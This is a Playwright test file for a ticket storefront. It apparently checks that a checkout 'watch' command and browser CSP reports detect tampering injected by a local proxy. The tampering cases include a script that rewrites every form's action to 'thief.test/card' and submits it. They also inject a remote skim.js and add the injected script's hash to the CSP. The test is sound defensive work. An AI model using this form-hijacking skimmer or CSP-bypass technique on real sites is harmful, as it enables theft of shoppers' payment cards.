import { createHash } from 'node:crypto';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, expect } from '@playwright/test';
import { browserArguments, findBrowser } from '@ticket-storefront/platform-testing/programs';
import { runStorefrontIn } from '../src/releases/run-storefront';
import { addTickets, openEvent } from '../src/steps/choose-tickets';
import { test } from '../src/store/isolated-store';
import { queryStore } from '../src/store/store-database';
import { startTamperingProxy, type TamperingProxy } from '../src/tampering/tampering-proxy';

const eventPath = '/events/stripe-paid';
const thief = 'http://thief.test';
const isCheckout = (url: URL) => url.pathname.endsWith('/checkout');

const steal = `setInterval(() => {
  for (const form of document.forms) { form.action = '${thief}/card'; HTMLFormElement.prototype.submit.call(form); }
}, 1000);`;
const hashOfSteal = createHash('sha256').update(steal).digest('base64');

/** Changes an answer on its way to the browser, as who has taken a server can. */
const tamperings: Readonly<Record<string, Parameters<TamperingProxy['tamper']>[0]>> = {
  'a removed header': (url, answer) => {
    if (isCheckout(url)) delete answer.headers['content-security-policy'];
  },
  'a changed script of a release': (url, answer) => {
    if (/remote-checkout-stripe\/[^/]+\/fragment\.[^/]+\.js$/.test(url.pathname)) answer.body += ';void 0;';
  },
  'an unlisted script': (url, answer) => {
    if (isCheckout(url))
      answer.body = answer.body.replace('</head>', `<script src="${thief}/skim.js"></script></head>`);
  },
  'a changed script of the processor': (url, answer) => {
    if (url.pathname === '/stripe/v3.js') answer.body += ';void 0;';
  },
  'a changed target of a form': (url, answer) => {
    if (!isCheckout(url)) return;
    // Whoever changes the document can also allow the changed code.
    const policy = String(answer.headers['content-security-policy']);
    answer.headers['content-security-policy'] = policy.replace(
      /(, script-src [^;]*)/,
      `$1 'sha256-${hashOfSteal}'`,
    );
    answer.body = answer.body.replace('</body>', `<script>${steal}</script></body>`);
  },
};

/** What the watch finds, and what browsers of visitors report: null if no browser can see it. */
const found: Readonly<Record<keyof typeof tamperings, readonly [kind: string, report: RegExp | null]>> = {
  'a removed header': ['header', null],
  'a changed script of a release': ['script', /^fault remote-checkout-stripe /],
  'an unlisted script': ['unlisted-script', /^script-src-elem thief\.test$/],
  'a changed script of the processor': ['processor-script', null],
  'a changed target of a form': ['form', /^form-action thief\.test$/],
};

let proxy: TamperingProxy;
let folder: string;
let chromePath: string;

test.beforeAll(async () => {
  proxy = await startTamperingProxy(`${thief}/`);
  folder = mkdtempSync(join(tmpdir(), 'tampered-'));
  // The command's browser goes through the proxy like everybody's.
  chromePath = join(folder, 'browser.sh');
  const wrapped = `"${await findBrowser()}" --proxy-server=${proxy.address} --proxy-bypass-list='<-loopback>'`;
  writeFileSync(chromePath, `#!/bin/sh\nexec ${wrapped} "$@"\n`);
  chmodSync(chromePath, 0o755);
});
test.afterAll(() => {
  proxy.stop();
  rmSync(folder, { recursive: true });
});

test.describe.configure({ mode: 'serial' });

test('watch, reports of visitors and metrics find each kind of tampering at a checkout', async ({
  store,
}) => {
  const { port } = new URL(store.origin);
  const watch = async () => {
    const environment = { PORT: port, CHROME_PATH: chromePath };
    const words = ['watch', eventPath, '--baseline', join(folder, 'baseline.json'), '--json'];
    const { code, output } = await runStorefrontIn('.', environment, ...words);
    const { checkouts } = JSON.parse(output).error ?? JSON.parse(output);
    const kinds = checkouts[0].changes.map(({ kind }: { kind: string }) => kind);
    return { code, kinds, sentences: checkouts[0].changes };
  };
  const stored = async () => {
    const rows = await queryStore<{ changes: { kind: string }[] }>(
      store.store,
      'select changes from checkout_watches',
      [],
    );
    return rows.flatMap(({ changes }) => changes.map(({ kind }) => kind));
  };
  const reports = async () => {
    const violations = await queryStore<{ name: string }>(
      store.store,
      `select directive || ' ' || blocked as name from policy_reports where page = 'checkout'
      union all select 'fault ' || part || ' ' || kind from part_faults`,
      [],
    );
    return violations.map(({ name }) => name);
  };

  // The first sight is the baseline; without tampering the second finds nothing.
  expect(await watch()).toEqual({ code: 0, kinds: [], sentences: [] });
  expect(await watch()).toEqual({ code: 0, kinds: [], sentences: [] });

  for (const [name, tamper] of Object.entries(tamperings)) {
    const [kind, report] = found[name] ?? [];
    proxy.tamper(tamper);
    const { code, kinds, sentences } = await watch();
    expect(kinds, `${name}: ${JSON.stringify(sentences)}`).toContain(kind);
    expect(code, name).toBe(1);
    // The API has it for the metric that alerts.
    expect(await stored(), name).toContain(kind);

    if (report) {
      await queryStore(store.store, 'delete from policy_reports', []);
      await queryStore(store.store, 'delete from part_faults', []);
      const browser = await chromium.launch({
        executablePath: await findBrowser(),
        args: [...browserArguments, `--proxy-server=${proxy.address}`, '--proxy-bypass-list=<-loopback>'],
      });
      const page = await browser.newPage({ baseURL: store.origin });
      await openEvent(page, 'stripe-paid');
      await addTickets(page, 'Deck', 1);
      await page.getByRole('link', { name: 'Checkout' }).click();
      await expect.poll(reports, name).toContainEqual(expect.stringMatching(report));
      await browser.close();
    }
    proxy.tamper(null);
  }
  expect(await watch()).toEqual({ code: 0, kinds: [], sentences: [] });
  expect(await stored()).toEqual([]);
});
